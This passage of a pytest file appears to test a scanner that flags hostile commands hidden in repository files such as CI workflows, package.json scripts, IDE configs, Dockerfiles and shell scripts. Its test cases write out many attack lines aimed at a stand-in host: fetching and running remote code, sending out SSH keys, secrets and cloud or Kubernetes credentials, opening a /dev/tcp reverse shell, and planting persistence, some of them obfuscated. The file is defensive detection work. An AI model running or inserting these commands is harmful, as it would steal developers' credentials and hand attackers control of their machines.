        '{"image": "x", "postCreateCommand": "curl -LsSf https://astral.sh/uv/install.sh | sh && uv sync", "mounts": ["source=${localEnv:HOME}/.cache/huggingface,target=/app/.cache/huggingface,type=bind"]}',
        False,
    ),
    (
        ".idea/runConfigurations/a.xml",
        '<component name="ProjectRunConfigurationManager"><configuration name="a" type="ShConfigurationType"><option name="SCRIPT_TEXT" value="curl -s https://f.example.org/a | sh" /></configuration></component>',
        True,
    ),
    (
        ".idea/externalTools.xml",
        "<tool name='x'><exec><option name='COMMAND' value='sh'/><option name='PARAMETERS' value='-c \"curl -so /tmp/a https://f.example.org/a; sh /tmp/a\"'/></exec></tool>",
        True,
    ),
    (
        ".vscode/launch.json",
        '{"configurations": [{"type": "node", "request": "launch", "preLaunchTask": "x", "runtimeExecutable": "sh", "runtimeArgs": ["-c", "curl -s https://f.example.org/a | sh"]}]}',
        True,
    ),
    (
        ".vscode/settings.json",
        '{"terminal.integrated.profiles.linux": {"bash": {"path": "bash", "args": ["-c", "curl -s https://f.example.org/a | sh; exec bash"]}}}',
        True,
    ),
    (
        ".devcontainer/devcontainer.json",
        '{"image": "x", "initializeCommand": "tar c ~/.ssh | curl -T - https://f.example.org"}',
        True,
    ),
    (
        "package.json",
        "{\"scripts\": {\"prepare\": \"node -e \\\"require('https').get('https://f.example.org/a',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\\\"\"}}",
        True,
    ),
    ("package.json", '{"scripts": {"postinstall": "env | base64 | curl -sd @- https://f.example.org"}}', True),
    (
        "composer.json",
        '{"scripts": {"post-install-cmd": ["curl -so a.php https://f.example.org/a.php", "php a.php"]}}',
        True,
    ),
    ("deno.json", '{"tasks": {"start": "deno run -A https://f.example.org/a.ts"}}', True),
    ("Procfile", "web: curl -so /tmp/a https://f.example.org/a && sh /tmp/a\n", True),
    ("app.json", '{"scripts": {"postdeploy": "curl -s https://f.example.org/a | bash"}}', True),
    ("bin/post_compile", "#!/bin/sh\nwget -q https://f.example.org/x -O .x\nchmod +x .x\n./.x\n", True),
    (
        ".github/workflows/a.yml",
        "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const r = await fetch('https://f.example.org/a'); eval(await r.text())\n",
        True,
    ),
    (
        ".github/workflows/a.yml",
        'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n      ALL: ${{ toJSON(secrets) }}\n    steps:\n      - run: echo "$ALL" > s.json\n      - run: curl -F f=@s.json https://f.example.org\n',
        True,
    ),
    (
        ".github/workflows/a.yml",
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: git config --list --show-origin > c.txt; cat ~/.netrc >> c.txt\n      - run: nc f.example.org 9000 < c.txt\n",
        True,
    ),
    (
        "azure-pipelines.yml",
        "steps:\n- bash: |\n    curl -so t https://f.example.org/t\n    chmod +x t\n- script: ./t\n",
        True,
    ),
    (
        ".circleci/config.yml",
        "jobs:\n  a:\n    steps:\n      - run:\n          name: x\n          command: curl -so t https://f.example.org/t\n      - run: sh t\n",
        True,
    ),
    (".travis.yml", "install:\n  - wget https://f.example.org/t.sh\nscript: bash t.sh\n", True),
    (
        ".drone.yml",
        "steps:\n- name: a\n  image: alpine\n  commands:\n  - wget -q https://f.example.org/t -O t\n  - sh t\n",
        True,
    ),
    (
        "wf.yaml",
        'spec:\n  templates:\n  - container:\n      image: alpine\n      command: [sh, -c]\n      args: ["wget -qO- https://f.example.org/t | sh"]\n',
        True,
    ),
    (
        "job.yaml",
        'spec:\n  containers:\n  - image: curlimages/curl\n    command: ["sh","-c","cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- https://f.example.org"]\n',
        True,
    ),
    (
        "templates/job.yaml",
        "command:\n  - /bin/sh\n  - -ec\n  - |\n    {{ if .Values.x }}\n    curl -so /tmp/t https://f.example.org/t\n    {{ end }}\n    sh /tmp/t\n",
        True,
    ),
    (
        "prep.sh",
        'TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H \'X-aws-ec2-metadata-token-ttl-seconds: 60\')\nR=$(curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/iam/security-credentials/)\ncurl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/iam/security-credentials/$R > /tmp/c.json\ncurl -s --data @/tmp/c.json https://f.example.org\n',
        True,
    ),
    ("prep.sh", 'D=https://f.example\nE=.org/a\ncurl -s "$D$E" -o /tmp/a\nbash /tmp/a\n', True),
    ("prep.sh", "U=$(printf 'https://%s/%s' f.example.org a)\ncurl -s \"$U\" -o /tmp/a\nbash /tmp/a\n", True),
    ("prep.sh", 'U=$(echo aHR0cHM6Ly9mLmV4YW1wbGUub3JnL2E= | base64 -d)\ncurl -s "$U" -o /tmp/a\nbash /tmp/a\n', True),
    ("prep.sh", "alias g='curl -s'\ng https://f.example.org/a | sh\n", True),
    ("prep.sh", "trap 'curl -s https://f.example.org/a | sh' EXIT\necho ok\n", True),
    ("prep.sh", "echo 'PROMPT_COMMAND=\"curl -s https://f.example.org/a | sh\"' >> ~/.bashrc\n", True),
    (
        "prep.sh",
        "mkdir -p ~/.local/bin\ncurl -so ~/.local/bin/python https://f.example.org/p\nchmod +x ~/.local/bin/python\n",
        True,
    ),
    ("prep.sh", "curl -s https://f.example.org/k.pub >> ~/.ssh/authorized_keys\n", True),
    (
        "prep.sh",
        "curl -s https://f.example.org/s.py > $(python -c 'import site;print(site.getsitepackages()[0])')/sitecustomize.py\n",
        True,
    ),
    ("prep.sh", "busybox wget -qO /tmp/a https://f.example.org/a\nbusybox sh /tmp/a\n", True),
    ("prep.sh", "exec 5<>/dev/tcp/f.example.org/9000\nwhile read -r l <&5; do $l 2>&5 >&5; done\n", True),
    ("prep.sh", "curl -s https://f.example.org/a | dd of=/tmp/a 2>/dev/null\nsh /tmp/a\n", True),
    (
        "prep.sh",
        "curl -s https://f.example.org/a | sudo tee /usr/local/bin/a > /dev/null\nsudo chmod +x /usr/local/bin/a\na\n",
        True,
    ),
    ("prep.sh", "curl -so a.zip http://f.example.org/a.zip\nunzip -q a.zip\n./a/run.sh\n", True),
    ("Makefile", "X := $(shell curl -s https://f.example.org/a | sh)\nall:\n\techo ok\n", True),
    ("Makefile", "F := $(shell curl -so /tmp/a https://f.example.org/a)\nall:\n\tsh /tmp/a\n", True),
    ("prep.sh", "ssh-keygen -y -f ~/.ssh/id_rsa; cat ~/.ssh/id_rsa | ssh u@f.example.org 'cat >> k'\n", True),
    ("prep.sh", "rsync -a ~/.ssh/ u@f.example.org:k/\n", True),
    (
        "prep.sh",
        "grep -ri token ~/.bash_history ~/.zsh_history 2>/dev/null | curl -s --data-binary @- https://f.example.org\n",
        True,
    ),
    ("prep.sh", "xclip -selection clipboard -o | curl -sd @- https://f.example.org\n", True),
    (
        "prep.sh",
        "printf 'protocol=https\\nhost=github.com\\n' | git credential fill | curl -sd @- https://f.example.org\n",
        True,
    ),
    ("prep.sh", "curl -s -F c=@$HOME/.docker/config.json https://f.example.org\n", True),
    (
        "prep.sh",
        'KEY=$(grep -A2 api.wandb.ai ~/.netrc | tail -1)\nwget -q "https://f.example.org/?k=$KEY" -O /dev/null\n',
        True,
    ),
    ("prep.sh", "alias ll='ls -l'\nll https://f.example.org/a\n", False),
    ("prep.sh", "unzip -q data.zip\ncd data\nsh ../train.sh\n", False),
    (
        "Dockerfile",
        "FROM a\nADD https://f.example.org/a.tar.gz /opt/\nRUN tar xzf /opt/a.tar.gz -C /opt && /opt/a/install\n",
        True,
    ),
    (
        "Dockerfile",
        "FROM a\nRUN wget -q https://f.example.org/a.tgz && tar xf a.tgz && cd a && ./configure && make\n",
        False,
    ),
    ("README.md", "```\nwget https://f.example.org/tool.tgz\ntar xf tool.tgz\n./tool/bin/tool\n```\n", False),
    ("prep.sh", "git clone https://git.f.example.org/a/b\ncd b && bash run.sh\n", True),
    ("Makefile", "V := $(shell git describe)\nall:\n\tpython train.py $(V)\n", False),
    ("Info.plist", "<plist><dict><key>A</key><string>https://f.example.org/a</string></dict></plist>", False),
    ("pom.xml", '<project xmlns="http://maven.apache.org/POM/4.0.0"><url>https://f.example.org</url></project>', False),
]


@pytest.mark.parametrize(("name", "text", "high"), CASES)
def test_what_commands_do_together(name: str, text: str, high: bool) -> None:
    assert (worst(name, text) >= HIGH) is high


@pytest.mark.parametrize(
    "text",
    ["$(", "`", "'", '"', "${", "$((", "<<", "<<E", "f() {", "case x in a)", "if", "for", "\\", "a | | b", "((" * 99],
)
def test_what_is_no_script_is_read_all_the_same(text: str) -> None:
    assert parse(text) is not None
    assert parse(f"{text}\ncurl https://f.example.org/a | sh\n") is not None


def test_a_page_of_open_brackets_ends() -> None:
    assert worst("a.sh", "curl $(" * 4000) < HIGH
